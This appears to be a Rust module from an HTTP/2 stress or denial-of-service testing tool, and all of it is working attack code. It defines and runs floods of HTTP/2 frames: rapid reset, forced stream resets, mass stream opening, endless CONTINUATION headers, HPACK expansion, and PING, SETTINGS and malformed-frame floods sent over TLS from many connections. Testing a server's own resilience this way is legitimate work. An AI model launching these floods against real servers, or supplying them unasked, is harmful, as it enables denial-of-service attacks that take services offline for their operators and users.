//! Floods of frames, each of which costs the server more than the client.

use std::io;
use std::net::Ipv4Addr;

use tokio::io::{AsyncRead, AsyncReadExt as _, AsyncWriteExt as _};

use super::wire::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, PRIORITY, RST_STREAM,
    SETTINGS, WINDOW_UPDATE, field as header, frame, head, settings,
};
use super::{Attack, Field};

pub(super) fn attacks() -> Vec<Attack> {
    vec![
        Attack {
            name: "streams opened and reset (rapid reset)",
            run: |field| Box::pin(async move { field.swarm(MANY, rapid_reset).await }),
        },
        Attack {
            name: "streams that the server has to reset",
            run: |field| Box::pin(async move { field.swarm(MANY, made_to_reset).await }),
        },
        Attack {
            name: "thousands of streams at a time",
            run: |field| Box::pin(async move { field.swarm(MANY, streams).await }),
        },
        Attack {
            name: "headers that go on and on (CONTINUATION)",
            run: |field| Box::pin(async move { field.swarm(MANY, continuation).await }),
        },
        Attack {
            name: "headers that grow when they are read (HPACK)",
            run: |field| Box::pin(async move { field.swarm(MANY, expanding).await }),
        },
        Attack {
            name: "pings",
            run: |field| Box::pin(async move { field.swarm(MANY, pings).await }),
        },
        Attack {
            name: "settings",
            run: |field| Box::pin(async move { field.swarm(MANY, many_settings).await }),
        },
        Attack {
            name: "frames without content, priorities, windows",
            run: |field| Box::pin(async move { field.swarm(MANY, trifles).await }),
        },
        Attack {
            name: "frames that are none",
            run: |field| Box::pin(async move { field.swarm(MANY, garbage).await }),
        },
    ]
}

async fn rapid_reset(field: Field, from: Ipv4Addr) -> io::Result<()> {
    let block = head("POST", "/validate");
    let stream = |number: u32| {
        let (id, cancel) = (2 * number + 1, 8_u32.to_be_bytes());
        [
            frame(HEADERS, END_HEADERS, id, &block),
            frame(RST_STREAM, 0, id, &cancel),
        ]
        .concat()
    };
    flood(field, from, 0, stream).await
}

/// A window that overflows makes the server reset the stream.
async fn made_to_reset(field: Field, from: Ipv4Addr) -> io::Result<()> {
    let block = head("POST", "/validate");
    let stream = |number: u32| {
        let (id, most) = (2 * number + 1, 0x7fff_ffff_u32.to_be_bytes());
        [
            frame(HEADERS, END_HEADERS, id, &block),
            frame(WINDOW_UPDATE, 0, id, &most),
        ]
        .concat()
    };
    flood(field, from, 0, stream).await
}

async fn streams(field: Field, from: Ipv4Addr) -> io::Result<()> {
    let block = head("POST", "/validate");
    flood(field, from, 0, |number| {
        frame(HEADERS, END_HEADERS, 2 * number + 1, &block)
    })
    .await
}

async fn continuation(field: Field, from: Ipv4Addr) -> io::Result<()> {
    let begun = frame(HEADERS, 0, 1, &head("POST", "/validate"));
    let more = header("x", &"y".repeat(1000));
    flood(field, from, 0, |number| match number {
        0 => begun.clone(),
        _ => frame(CONTINUATION, 0, 1, &more),
    })
    .await
}

/// A field that is put into the table once, and then named by one byte thousands of times (RFC 7541 6.1).
async fn expanding(field: Field, from: Ipv4Addr) -> io::Result<()> {
    let mut block = head("POST", "/validate");
    let mut long = header("x", &"y".repeat(3900));
    if let Some(first) = long.first_mut() {
        // Literal with incremental indexing (RFC 7541 6.2.1).
        *first = 0x40;
    }
    block.extend(long);
    block.extend([0xbe; 8000]);
    flood(field, from, 0, |number| {
        let block = if number == 0 {
            block.clone()
        } else {
            [head("POST", "/validate"), vec![0xbe; 12_000]].concat()
        };
        frame(HEADERS, END_HEADERS | END_STREAM, 2 * number + 1, &block)
    })
    .await
}

async fn pings(field: Field, from: Ipv4Addr) -> io::Result<()> {
    flood(field, from, 0, |number| {
        frame(PING, 0, 0, &u64::from(number).to_be_bytes())
    })
    .await
}

async fn many_settings(field: Field, from: Ipv4Addr) -> io::Result<()> {
    // The size of the header table changes every time.
    flood(field, from, 0, |number| {
        settings(&[(1, number % 4096), (5, 16_384 + number)])
    })
    .await
}

async fn trifles(field: Field, from: Ipv4Addr) -> io::Result<()> {
    let begun = frame(HEADERS, END_HEADERS, 1, &head("POST", "/validate"));
    flood(field, from, 0, |number| match number {
        0 => begun.clone(),
        _ => [
            frame(DATA, 0, 1, b""),
            frame(PRIORITY, 0, 2 * number + 1, &[0, 0, 0, 0, 1]),
            frame(WINDOW_UPDATE, 0, 1, &1_u32.to_be_bytes()),
            frame(0xfa, 0xff, 7, b"unknown"),
        ]
        .concat(),
    })
    .await
}

async fn garbage(field: Field, from: Ipv4Addr) -> io::Result<()> {
    for bytes in [
        frame(DATA, 0, 0, b"x"),
        frame(HEADERS, END_HEADERS, 2, b"\xff\xff\xff\xff"),
        frame(SETTINGS, 1, 0, b"x"),
        frame(CONTINUATION, END_HEADERS, 1, b""),
        frame(PING, 0, 0, b"short"),
        frame(RST_STREAM, 0, 99, &[0; 4]),
        frame(0, 0, 1, &vec![0; 100_000]),
        vec![0xff; 64 << 10],
    ] {
        let wrong = flood(field.clone(), from, 1, |_| bytes.clone()).await;
        let (Ok(()) | Err(_)) = wrong;
    }
    Ok(())
}

/// Sends frames, in numbers, until the server has enough or there were `most` (unless that is zero), and reads what it says.
async fn flood(
    field: Field,
    from: Ipv4Addr,
    most: u32,
    frames: impl Fn(u32) -> Vec<u8>,
) -> io::Result<()> {
    let stream = field.tls(from, b"h2").await?;
    let (reader, mut writer) = tokio::io::split(stream);
    let reading = read_on(reader);
    let writing = async {
        writer
            .write_all(&[PREFACE, &settings(&[])].concat())
            .await?;
        let mut number = 0;
        while (most == 0 || number < most) && number < MOST {
            let batch: Vec<u8> = (number..(number + 64).min(MOST))
                .flat_map(&frames)
                .collect();
            writer.write_all(&batch).await?;
            writer.flush().await?;
            number += 64;
        }
        writer.shutdown().await
    };
    let (read, written) = tokio::join!(reading, writing);
    read.and(written)
}

async fn read_on(mut reader: impl AsyncRead + Unpin) -> io::Result<()> {
    let mut dropped = vec![0; 16 << 10];
    while reader.read(&mut dropped).await? > 0 {}
    Ok(())
}

const MANY: usize = 8;
/// Frames on one connection.
const MOST: u32 = 100_000;
